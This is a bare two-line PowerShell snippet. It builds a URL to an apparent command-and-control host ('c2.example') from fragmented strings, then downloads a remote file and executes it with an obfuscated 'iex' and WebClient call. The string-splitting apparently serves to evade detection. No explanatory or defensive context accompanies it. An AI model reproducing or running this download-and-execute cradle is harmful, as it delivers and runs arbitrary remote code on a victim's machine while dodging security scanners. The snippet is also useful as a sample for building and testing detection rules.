$a = 'http' + '://c2.' + "example" + '/a.txt'
&('i' + 'ex') ((New-Object ('Net.Web' + 'Client')).('Download' + 'String')($a))
